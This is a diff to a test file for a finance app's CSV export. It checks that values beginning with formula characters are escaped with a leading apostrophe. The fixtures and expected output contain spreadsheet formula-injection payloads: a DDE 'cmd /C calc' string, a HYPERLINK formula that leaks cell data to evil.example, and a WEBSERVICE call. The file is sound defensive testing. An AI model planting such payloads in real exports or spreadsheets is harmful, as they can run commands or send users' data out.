@@ -47,7 +47,9 @@ def formula_ledger(user):
             wallet, amount=f"{index + 1}.00", category=category, on=date(2026, 3, index + 1),
             description=text, payee=text, notes=text, tags=[f"@tag{index}"],
         )
-    Budget.objects.create(user=user, category=category, name="-Food", amount=Decimal("100.00"), start_date=date(2026, 3, 1))
+    Budget.objects.create(
+        user=user, category=category, name="-Food", amount=Decimal("100.00"), start_date=date(2026, 3, 1)
+    )
     goal = Goal.objects.create(user=user, name="@Bike", target_amount=Decimal("400.00"))
     GoalEntry.objects.create(goal=goal, amount=Decimal("10.00"), date=date(2026, 3, 3), note="=1+1")
     conversation = Conversation.objects.create(user=user, title="=WEBSERVICE(\"x\")")
@@ -100,11 +102,10 @@ def test_the_transactions_export_is_unchanged(auth_client, user, formula_ledger)
     assert response.status_code == 200
     text = b"".join(response.streaming_content).decode()
     name = "'=cmd|' /C calc'!A0"
+    link = '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"'  # quoted, quotes doubled
     expected = [
         "date,kind,amount,currency,account,category,description,payee,notes,tags,transfer_account,external_id",
-        f"2026-03-01,expense,1.00,USD,{name},'+Groceries,\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Click\"\")\","
-        f"\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Click\"\")\","
-        f"\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",'@tag0,,",
+        f"2026-03-01,expense,1.00,USD,{name},'+Groceries,{link},{link},{link},'@tag0,,",
         f"2026-03-02,expense,2.00,USD,{name},'+Groceries,'+1,'+1,'+1,'@tag1,,",
         f"2026-03-03,expense,3.00,USD,{name},'+Groceries,'-1+2,'-1+2,'-1+2,'@tag2,,",
         f"2026-03-04,expense,4.00,USD,{name},'+Groceries,'@SUM(A1:A9),'@SUM(A1:A9),'@SUM(A1:A9),'@tag3,,",
